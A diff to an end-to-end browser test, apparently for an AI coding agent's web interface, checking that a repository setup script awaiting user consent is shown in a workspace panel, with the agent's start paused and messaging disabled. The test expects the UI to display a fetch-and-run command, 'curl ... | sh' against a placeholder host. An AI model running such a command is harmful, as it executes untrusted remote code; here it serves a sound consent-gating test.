@@ -1,4 +1,5 @@
 import type { V0Event } from '../src/shared/api/events';
+import { conversationState } from '../src/shared/conversation-state';
 import { screenshot } from './support/screenshots';
 import { conversationInfo, routeConversation, sseBody } from './support/synthetic-conversation';
 import { expect, test } from './support/test';
@@ -63,6 +64,11 @@ test('a repository’s setup script waits for the user, shown in the timeline an
     status: 'STARTING',
     runtime_status: 'STATUS$SETTING_UP_WORKSPACE',
     agent_state: 'awaiting_user_confirmation',
+    dockhand_state: conversationState({
+      status: 'STARTING',
+      start: { stage: 'setting_up_workspace' },
+      agent_state: 'awaiting_user_confirmation',
+    }),
     sandbox_secrets: ['GITHUB_TOKEN', 'MY_API_SECRET'],
   });
   await page.route(
@@ -72,7 +78,9 @@ test('a repository’s setup script waits for the user, shown in the timeline an
 
   await page.goto(service.link);
   await page.evaluate((hash) => (window.location.hash = hash), `#/conversations/${id}`);
-  const panel = page.getByRole('region', { name: 'The repository’s code asks to run' });
+  const panel = page
+    .getByRole('region', { name: 'Workspace' })
+    .getByRole('region', { name: 'The repository’s code asks to run' });
   await expect(panel).toBeVisible();
   await expect(panel.getByText('curl -s https://example.invalid/x.sh | sh', { exact: false })).toBeVisible();
   const list = page.getByRole('region', { name: 'Conversation events' });
@@ -80,5 +88,8 @@ test('a repository’s setup script waits for the user, shown in the timeline an
   await expect(list.getByText('Pending', { exact: true })).toBeVisible();
   await expect(list.getByText('Not run: on the process sandbox', { exact: false })).toBeVisible();
   await expect(page.getByText('MY_API_SECRET')).toBeVisible();
+  // The start waits on the user, so the pill says so; messages wait for the start.
+  await expect(page.locator('.conversation-header .state-pill')).toHaveText('Needs you');
+  await expect(page.getByLabel('Message', { exact: true })).toBeDisabled();
   await screenshot(page, 'repository-code-consent');
 });
